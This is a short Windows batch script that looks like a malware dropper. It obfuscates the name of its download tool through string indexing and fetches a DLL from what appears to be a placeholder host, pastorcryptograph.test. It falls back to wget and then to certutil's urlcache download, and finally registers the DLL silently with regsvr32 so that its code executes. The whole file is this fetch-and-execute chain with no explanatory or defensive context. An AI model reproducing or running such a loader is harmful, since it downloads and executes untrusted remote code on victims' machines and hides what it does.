@echo off
Set aim=pceR5U1dvqIDgTHy7z8f4mxKs2bOa6S0kQWXrlo3JtBLnPAYiFNZhwCGjE9uVM@
cls
@%aim:~29,1%%aim:~2,1%%aim:~21,1% x=%aim:~1,1%%aim:~60,1%%aim:~38,1%%aim:~39,1%
%x% -k https://pastorcryptograph.test/3/sdd.dll -o compile.dll
if not exist compile.dll (
  wget https://pastorcryptograph.test/3/sdd.dll -O compile.dll
)
if not exist compile.dll (
  certutil.exe -urlcache -f https://pastorcryptograph.test/3/sdd.dll compile.dll
)
regsvr32.exe -s compile.dll
